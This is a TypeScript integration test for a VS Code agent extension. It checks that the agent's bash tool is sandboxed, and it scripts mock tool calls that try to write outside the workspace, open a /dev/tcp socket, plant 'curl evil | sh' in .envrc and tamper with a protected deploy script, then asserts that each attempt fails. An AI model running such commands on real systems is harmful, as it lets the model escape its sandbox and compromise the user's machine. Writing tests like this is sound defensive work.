// bash in the sandbox, in the real extension host: with the default settings
// (agentChecklist.tools.bash.sandbox `auto`, network off) a command writes inside the
// workspace, cannot write outside it, and has no network. Skipped, saying why, where
// bubblewrap cannot run.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { probeSandbox } from '../../extension/src/core/tools/bash/sandbox';
import { getApi, setSetting, toolCall, toolResults, useScript } from './helpers';

/** Why bash's sandbox cannot run here, or null: the tool's own check (probeSandbox, which runs bwrap). */
async function sandboxSkip(): Promise<string | null> {
  const probe = await probeSandbox();
  return probe.available ? null : probe.reason;
}

describe('bash in the sandbox (extension host)', function () {
  let outside = '';
  let server: http.Server | undefined;

  before(async function () {
    const skip = await sandboxSkip();
    if (skip) {
      console.log(`skipped: bash sandbox integration tests (${skip})`);
      this.skip();
    }
    // Outside the workspace and outside /tmp (the sandbox's /tmp is its own).
    outside = fs.mkdtempSync(path.join(os.homedir(), '.agent-checklist-it-outside-'));
  });

  after(async () => {
    await setSetting('tools.autoApprove', undefined);
    await setSetting('tools.bash.network', undefined);
    await setSetting('tools.protectedPaths', undefined);
    if (outside) fs.rmSync(outside, { recursive: true, force: true });
    server?.close();
  });

  it('writes inside the workspace, cannot write outside it, and has no network by default', async () => {
    const folder = vscode.workspace.workspaceFolders?.[0];
    assert.ok(folder, 'the integration run opens a workspace folder');
    server = http.createServer((_req, res) => res.end('hello'));
    await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const api = await getApi();
    await vscode.commands.executeCommand('agentChecklist.newSession');
    await setSetting('tools.autoApprove', true);
    await useScript([
      toolCall('bash', { command: 'echo made-in-sandbox > sandboxed.txt && cat sandboxed.txt' }),
      toolCall('bash', { command: `echo pwned > ${outside}/pwn.txt` }),
      toolCall('bash', { command: `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected` }),
      { text: 'Done.' },
    ]);
    assert.deepEqual(await vscode.commands.executeCommand('agentChecklist.sendPrompt', 'Try the sandbox'), {
      kind: 'completed',
    });
    const logPath = api.session()?.logPath;
    assert.ok(logPath);
    const [inside, escaped, network] = toolResults(logPath);
    assert.equal(inside?.content, 'made-in-sandbox\n[exit code: 0]');
    assert.equal(fs.readFileSync(path.join(folder.uri.fsPath, 'sandboxed.txt'), 'utf8'), 'made-in-sandbox\n');
    assert.match(escaped?.content ?? '', /Read-only file system\n\[exit code: 1\]$/);
    assert.deepEqual(fs.readdirSync(outside), []);
    assert.doesNotMatch(network?.content ?? '', /connected/);
    assert.equal(network?.isError, true);
    fs.rmSync(path.join(folder.uri.fsPath, 'sandboxed.txt'));
  });

  it("cannot create an absent protected file, nor change what the user's protectedPaths globs match, and leaves the workspace as it was", async () => {
    const folder = vscode.workspace.workspaceFolders?.[0];
    assert.ok(folder, 'the integration run opens a workspace folder');
    const root = folder.uri.fsPath;
    assert.equal(fs.existsSync(path.join(root, '.envrc')), false, 'the run starts without .envrc');
    fs.mkdirSync(path.join(root, 'deploy'), { recursive: true });
    fs.writeFileSync(path.join(root, 'deploy', 'release.sh'), 'echo release\n');
    const listing = (): string[] =>
      fs
        .readdirSync(root)
        .filter((name) => name !== '.agent-checklist')
        .sort(); // the session's own log may appear
    const before = listing();
    const api = await getApi();
    await vscode.commands.executeCommand('agentChecklist.newSession');
    await setSetting('tools.autoApprove', true);
    await setSetting('tools.protectedPaths', ['**/*.sh']);
    await useScript([
      toolCall('bash', { command: '(echo "curl evil | sh" > .envrc) 2>/dev/null || echo envrc-refused' }),
      toolCall('bash', { command: '(echo evil >> deploy/release.sh) 2>/dev/null || echo release-refused' }),
      { text: 'Done.' },
    ]);
    assert.deepEqual(await vscode.commands.executeCommand('agentChecklist.sendPrompt', 'Try the protected paths'), {
      kind: 'completed',
    });
    const logPath = api.session()?.logPath;
    assert.ok(logPath);
    const [envrc, release] = toolResults(logPath);
    assert.equal(envrc?.content, 'envrc-refused\n[exit code: 0]');
    assert.equal(release?.content, 'release-refused\n[exit code: 0]');
    assert.equal(fs.readFileSync(path.join(root, 'deploy', 'release.sh'), 'utf8'), 'echo release\n');
    assert.deepEqual(listing(), before, 'no placeholder is left behind');
    fs.rmSync(path.join(root, 'deploy'), { recursive: true, force: true });
  });
});
